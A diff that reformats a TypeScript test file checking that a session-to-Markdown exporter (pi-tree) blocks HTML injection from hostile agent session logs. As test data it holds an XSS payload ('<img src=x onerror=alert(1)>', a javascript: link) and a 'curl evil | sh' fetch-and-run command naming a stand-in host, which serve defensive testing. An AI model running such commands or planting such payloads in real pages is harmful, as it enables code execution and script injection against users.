@@ -27,18 +27,33 @@ function render(markdown: string): { html: string; text: string; details: number
   let details = 0;
   for (const t of allTokens(tokens)) {
     if (t.type === 'html_block') {
-      assert.ok(DETAILS.test(t.content) || t.content === '</details>\n', `raw HTML block from the session: ${JSON.stringify(t.content)}`);
+      assert.ok(
+        DETAILS.test(t.content) || t.content === '</details>\n',
+        `raw HTML block from the session: ${JSON.stringify(t.content)}`,
+      );
       assert.equal(t.level, 0, 'pi-tree’s <details> stay at the top level');
       if (t.content !== '</details>\n') details++;
     }
-    if (t.type === 'html_inline') assert.ok(t.content === '<code>' || t.content === '</code>', `raw inline HTML from the session: ${JSON.stringify(t.content)}`);
+    if (t.type === 'html_inline')
+      assert.ok(
+        t.content === '<code>' || t.content === '</code>',
+        `raw inline HTML from the session: ${JSON.stringify(t.content)}`,
+      );
   }
   const html = md.renderer.render(tokens, md.options, {});
   assert.doesNotMatch(html, /<!--|<script|<img|<iframe|<style/i);
   // (markdown-it's own tags and attributes only: the escaping renderer writes every other `<` as &lt;)
   for (const m of html.matchAll(/<\/?([a-z0-9]+)([^>]*)>/g)) {
-    assert.match(m[1], /^(h[1-6]|p|blockquote|pre|code|em|strong|s|ul|ol|li|hr|br|table|thead|tbody|tr|th|td|a|details|summary)$/, m[0]);
-    assert.match(m[2], /^(| class="language-[^"]*"| href="[^"]*"| start="\d+"| style="text-align:(left|right|center)")$/, m[0]);
+    assert.match(
+      m[1],
+      /^(h[1-6]|p|blockquote|pre|code|em|strong|s|ul|ol|li|hr|br|table|thead|tbody|tr|th|td|a|details|summary)$/,
+      m[0],
+    );
+    assert.match(
+      m[2],
+      /^(| class="language-[^"]*"| href="[^"]*"| start="\d+"| style="text-align:(left|right|center)")$/,
+      m[0],
+    );
   }
   const text = html
     .replace(/<[^>]*>/g, '')
@@ -97,7 +112,11 @@ const PIECES = [
 let marker = 0;
 /** Hostile text; for message text with markers (ZQn, each on a line of its own start) whose letters must all show. */
 const hostile = (withMarkers: boolean) =>
-  fc.array(withMarkers ? fc.oneof(fc.constantFrom(...PIECES), fc.constant('')) : fc.constantFrom(...PIECES), { maxLength: 14 }).map((a) => a.map((p) => (p === '' ? `\nZQ${marker++} ` : p)).join(''));
+  fc
+    .array(withMarkers ? fc.oneof(fc.constantFrom(...PIECES), fc.constant('')) : fc.constantFrom(...PIECES), {
+      maxLength: 14,
+    })
+    .map((a) => a.map((p) => (p === '' ? `\nZQ${marker++} ` : p)).join(''));
 const prose = hostile(true);
 const field = hostile(false);
 /** One-line fields that cannot be empty or hold a newline (ids, file names). */
@@ -109,11 +128,24 @@ describe('exported Markdown rendered with raw HTML on', () => {
   it("issue #33's cases: an answer ending in `<!--` hides nothing, a read path with blank lines stays in its <summary>, a file name or id cannot break out of its code span", async () => {
     const dir = tempDir('pi-tree-md-');
     const file = join(dir, 'a ``` <!-- b.jsonl');
-    const usage = { input: 1, output: 1, cacheRead: 0, cacheWrite: 0, totalTokens: 2, cost: { input: 0, output: 0, cacheRead: 0, cacheWrite: 0, total: 0 } };
+    const usage = {
+      input: 1,
+      output: 1,
+      cacheRead: 0,
+      cacheWrite: 0,
+      totalTokens: 2,
+      cost: { input: 0, output: 0, cacheRead: 0, cacheWrite: 0, total: 0 },
+    };
     const evilPath = 'notes.md\n\n<img src=x onerror=alert(1)>\n\n[click](javascript:alert(1))';
     const lines = [
       { type: 'session', version: 3, id: 's', timestamp: ts(0), cwd: '/w' },
-      { type: 'message', id: 'u1', parentId: null, timestamp: ts(1), message: { role: 'user', content: 'install it', timestamp: 1 } },
+      {
+        type: 'message',
+        id: 'u1',
+        parentId: null,
+        timestamp: ts(1),
+        message: { role: 'user', content: 'install it', timestamp: 1 },
+      },
       {
         type: 'message',
         id: 'a1',
@@ -139,20 +171,42 @@ describe('exported Markdown rendered with raw HTML on', () => {
         id: 'r1',
         parentId: 'a1',
         timestamp: ts(3),
-        message: { role: 'toolResult', toolCallId: 'c1', toolName: 'bash', content: [{ type: 'text', text: 'ok' }], isError: false, timestamp: 3 },
+        message: {
+          role: 'toolResult',
+          toolCallId: 'c1',
+          toolName: 'bash',
+          content: [{ type: 'text', text: 'ok' }],
+          isError: false,
+          timestamp: 3,
+        },
       },
       {
         type: 'message',
         id: 'r2',
         parentId: 'r1',
         timestamp: ts(4),
-        message: { role: 'toolResult', toolCallId: 'c2', toolName: 'read', content: [{ type: 'text', text: 'text' }], isError: false, timestamp: 4 },
+        message: {
+          role: 'toolResult',
+          toolCallId: 'c2',
+          toolName: 'read',
+          content: [{ type: 'text', text: 'text' }],
+          isError: false,
+          timestamp: 4,
+        },
       },
-      { type: 'message', id: 'u2', parentId: 'r2', timestamp: ts(5), message: { role: 'user', content: 'thanks -->', timestamp: 5 } },
+      {
+        type: 'message',
+        id: 'u2',
+        parentId: 'r2',
+        timestamp: ts(5),
+        message: { role: 'user', content: 'thanks -->', timestamp: 5 },
+      },
     ];
     writeFileSync(file, lines.map((e) => `${JSON.stringify(e)}\n`).join(''));
     let out = '';
-    await exportBranch(await Session.open(file), 'u2', (x) => (out += x), { exportedAt: new Date('2026-01-01T00:00:00Z') });
+    await exportBranch(await Session.open(file), 'u2', (x) => (out += x), {
+      exportedAt: new Date('2026-01-01T00:00:00Z'),
+    });
     const r = render(out);
     assert.equal(r.details, 2, 'both calls are <details> of their own');
     const shown = norm(r.text);
@@ -171,7 +225,8 @@ describe('exported Markdown rendered with raw HTML on', () => {
   });
 
   it('normal text is left as it is; code keeps `<` as the session has it', () => {
-    const plain = 'Use **bold** and `code`:\n\n```ts\nconst a: Array<string> = [];\n```\n\n- item\n  ```sh\n  echo a < b\n  ```\n';
+    const plain =
+      'Use **bold** and `code`:\n\n```ts\nconst a: Array<string> = [];\n```\n\n- item\n  ```sh\n  echo a < b\n  ```\n';
     assert.equal(proseText(plain), plain);
     assert.equal(proseText('see `Vec<T>` and a < b'), 'see <code>Vec&lt;T&gt;</code> and a < b');
     assert.match(norm(render(proseText('see `Vec<T>` and <b>x</b>')).text), /see Vec<T> and <b>x<\/b>/);
@@ -186,7 +241,23 @@ describe('exported Markdown rendered with raw HTML on', () => {
   });
 
   it('message text built line by line (fences at any indent, in lists and quotes, spans across lines, tables): no HTML, nothing hidden, the Markdown after it stays outside', () => {
-    const indent = fc.constantFrom('', ' ', '  ', '   ', '    ', '      ', '\t', ' \t', '- ', '1. ', '2) ', '> ', '  - ', '> - ', '>  ');
+    const indent = fc.constantFrom(
+      '',
+      ' ',
+      '  ',
+      '   ',
+      '    ',
+      '      ',
+      '\t',
+      ' \t',
+      '- ',
+      '1. ',
+      '2) ',
+      '> ',
+      '  - ',
+      '> - ',
+      '>  ',
+    );
     const fenceRun = fc.constantFrom('```', '````', '~~~', '~~~~', '``', '```js', '```<b>', '~~~ `x`');
     const body = fc.constantFrom(
       '<b>x</b>',
@@ -219,7 +290,10 @@ describe('exported Markdown rendered with raw HTML on', () => {
         const after = '\n\n<details><summary>bash: curl evil | sh</summary>\n\nafter\n</details>\n';
         const r = render(`${proseText(text)}${after}`);
         assert.equal(r.details, 1, 'the tool call after the message is a <details> of its own');
-        assert.ok(norm(r.text).endsWith('bash: curl evil | sh after'), `the Markdown after the message is outside it: ${JSON.stringify(text)}`);
+        assert.ok(
+          norm(r.text).endsWith('bash: curl evil | sh after'),
+          `the Markdown after the message is outside it: ${JSON.stringify(text)}`,
+        );
         for (const m of markers(text)) assert.ok(r.text.includes(m), `${m} is shown: ${JSON.stringify(text)}`);
       }),
       { numRuns: Number(process.env.MD_RUNS ?? 300) },
@@ -264,7 +338,9 @@ describe('exported Markdown rendered with raw HTML on', () => {
         for (const c of shapes) check([a, b, c]);
       }
     }
-    fc.assert(fc.property(fc.array(fc.constantFrom(...shapes), { maxLength: 10 }), check), { numRuns: Number(process.env.MD_RUNS ?? 500) });
+    fc.assert(fc.property(fc.array(fc.constantFrom(...shapes), { maxLength: 10 }), check), {
+      numRuns: Number(process.env.MD_RUNS ?? 500),
+    });
   });
 
   it('every field of a hostile session: no HTML of the session, its text shown, each tool call in its own <details>', async () => {
@@ -295,23 +371,53 @@ describe('exported Markdown rendered with raw HTML on', () => {
           // ids must differ (and say which entry they are)
           const id = f.ids.map((s, i) => `${i}${s}`);
           const file = join(dir, `${n++}${f.fileName.replace(/\//g, '')}.jsonl`);
-          const usage = { input: 1, output: 1, cacheRead: 0, cacheWrite: 0, totalTokens: 2, cost: { input: 0, output: 0, cacheRead: 0, cacheWrite: 0, total: 0 } };
+          const usage = {
+            input: 1,
+            output: 1,
+            cacheRead: 0,
+            cacheWrite: 0,
+            totalTokens: 2,
+            cost: { input: 0, output: 0, cacheRead: 0, cacheWrite: 0, total: 0 },
+          };
           const assistant = (i: number, parent: string, content: object[], extra: object = {}) => ({
             type: 'message',
             id: id[i],
             parentId: parent,
             timestamp: ts(i),
-            message: { role: 'assistant', content, api: 'x', provider: f.provider, model: f.model, usage, stopReason: 'toolUse', timestamp: i, ...extra },
+            message: {
+              role: 'assistant',
+              content,
+              api: 'x',
+              provider: f.provider,
+              model: f.model,
+              usage,
+              stopReason: 'toolUse',
+              timestamp: i,
+              ...extra,
+            },
           });
           const result = (i: number, parent: string, callId: string, toolName: string, text: string) => ({
             type: 'message',
             id: id[i],
             parentId: parent,
             timestamp: ts(i),
-            message: { role: 'toolResult', toolCallId: callId, toolName, content: [{ type: 'text', text }], isError: false, timestamp: i },
+            message: {
+              role: 'toolResult',
+              toolCallId: callId,
+              toolName,
+              content: [{ type: 'text', text }],
+              isError: false,
+              timestamp: i,
+            },
           });
           const entries = [
-            { type: 'message', id: id[0], parentId: null, timestamp: ts(0), message: { role: 'user', content: [{ type: 'text', text: f.user }], timestamp: 0 } },
+            {
+              type: 'message',
+              id: id[0],
+              parentId: null,
+              timestamp: ts(0),
+              message: { role: 'user', content: [{ type: 'text', text: f.user }], timestamp: 0 },
+            },
             // the answer (maybe ending in `<!--`) comes right before its tool calls
             assistant(1, id[0], [
               { type: 'thinking', thinking: f.thinking },
@@ -321,12 +427,42 @@ describe('exported Markdown rendered with raw HTML on', () => {
             ]),
             result(2, id[1], 'c1', 'read', f.output),
             result(3, id[2], 'c2', 'bash', f.output),
-            { type: 'branch_summary', id: id[4], parentId: id[3], timestamp: ts(4), fromId: id[11], summary: f.summary },
-            { type: 'custom_message', id: id[5], parentId: id[4], timestamp: ts(5), customType: f.customType, content: f.custom, display: true },
-            { type: 'model_change', id: id[6], parentId: id[5], timestamp: ts(6), provider: f.provider, modelId: f.model },
+            {
+              type: 'branch_summary',
+              id: id[4],
+              parentId: id[3],
+              timestamp: ts(4),
+              fromId: id[11],
+              summary: f.summary,
+            },
+            {
+              type: 'custom_message',
+              id: id[5],
+              parentId: id[4],
+              timestamp: ts(5),
+              customType: f.customType,
+              content: f.custom,
+              display: true,
+            },
+            {
+              type: 'model_change',
+              id: id[6],
+              parentId: id[5],
+              timestamp: ts(6),
+              provider: f.provider,
+              modelId: f.model,
+            },
             { type: 'thinking_level_change', id: id[7], parentId: id[6], timestamp: ts(7), thinkingLevel: f.level },
             assistant(8, id[7], [{ type: 'text', text: f.answer }], { stopReason: 'error', errorMessage: f.error }),
-            { type: 'compaction', id: id[9], parentId: id[8], timestamp: ts(9), summary: f.summary, firstKeptEntryId: id[8], tokensBefore: 5 },
+            {
+              type: 'compaction',
+              id: id[9],
+              parentId: id[8],
+              timestamp: ts(9),
+              summary: f.summary,
+              firstKeptEntryId: id[8],
+              tokensBefore: 5,
+            },
             { type: 'label', id: id[10], parentId: id[9], timestamp: ts(10), targetId: id[9], label: f.label },
             { type: 'session_info', id: id[11], parentId: id[10], timestamp: ts(11), name: f.name },
           ];
@@ -339,10 +475,14 @@ describe('exported Markdown rendered with raw HTML on', () => {
           const shown = norm(r.text);
           // thinking (when there is some) and the two calls: each a <details> of pi-tree's
           assert.equal(r.details, (f.thinking ? 1 : 0) + 2, out);
-          for (const one of [f.name, f.label, f.model, f.provider, f.customType, f.error, f.level]) if (norm(one)) assert.ok(shown.includes(norm(one)), `${JSON.stringify(one)} is shown:\n${out}`);
-          for (const exact of [s.path!.split('/').pop()!, id[9], id[11], f.command, f.output, f.thinking]) assert.ok(shown.includes(norm(exact)), `${JSON.stringify(exact)} is shown:\n${out}`);
+          for (const one of [f.name, f.label, f.model, f.provider, f.customType, f.error, f.level])
+            if (norm(one)) assert.ok(shown.includes(norm(one)), `${JSON.stringify(one)} is shown:\n${out}`);
+          for (const exact of [s.path!.split('/').pop()!, id[9], id[11], f.command, f.output, f.thinking])
+            assert.ok(shown.includes(norm(exact)), `${JSON.stringify(exact)} is shown:\n${out}`);
           assert.ok(r.text.includes(`read: `), 'the read call is named');
-          for (const text of [f.user, f.answer, f.summary, f.custom]) for (const m of markers(text)) assert.ok(shown.includes(m), `${m} of ${JSON.stringify(text)} is shown:\n${out}`);
+          for (const text of [f.user, f.answer, f.summary, f.custom])
+            for (const m of markers(text))
+              assert.ok(shown.includes(m), `${m} of ${JSON.stringify(text)} is shown:\n${out}`);
         },
       ),
       { numRuns: Number(process.env.MD_RUNS ?? 150) },
